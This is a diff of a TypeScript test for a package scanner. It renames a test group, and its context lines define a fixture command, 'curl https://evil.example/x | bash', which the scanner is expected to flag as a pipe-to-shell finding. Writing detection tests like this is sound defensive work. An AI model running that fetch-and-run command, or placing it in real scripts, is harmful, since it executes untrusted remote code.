@@ -8,7 +8,7 @@ const attack = 'curl https://evil.example/x | bash'
 const matchesOf = (text: string) =>
   scanPackage([file('scripts/run.sh', text)]).findings.map(({ rule, match }) => [rule, match])
 
-describe('issue 32: what a finding is about', () => {
+describe('what a finding is about', () => {
   it('is named by the whole lines of its match, wherever they stand', () => {
     const plain = matchesOf(`#!/bin/bash\n${attack}\n`)
     expect(plain).toEqual([['run.pipe-to-shell', expect.stringMatching(/^[0-9a-f]{64}$/)]])
